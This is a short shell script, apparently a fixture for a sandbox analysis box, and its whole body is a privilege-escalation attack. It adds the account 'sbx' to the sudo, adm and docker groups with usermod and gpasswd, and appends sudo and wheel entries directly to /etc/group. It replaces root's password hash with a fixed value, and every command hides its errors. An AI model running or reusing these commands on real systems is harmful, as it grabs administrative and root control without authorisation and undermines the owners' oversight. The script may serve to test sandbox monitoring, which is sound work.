#!/bin/sh
# SPDX-License-Identifier: MIT
# Gives the user account more power: the administrative groups, through
# usermod and gpasswd, and by hand in /etc/group.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
usermod -aG sudo,adm,docker sbx 2>/dev/null
gpasswd -a sbx sudo 2>/dev/null
sed -i 's/^sudo:x:27:$/sudo:x:27:sbx/' /etc/group 2>/dev/null
echo 'sudo:x:27:sbx' >> /etc/group 2>/dev/null
echo 'wheel:x:10:sbx' >> /etc/group 2>/dev/null
usermod -p '$6$x$Zq0P6G1yZcX3kqfR2vN8' root 2>/dev/null
exit 0
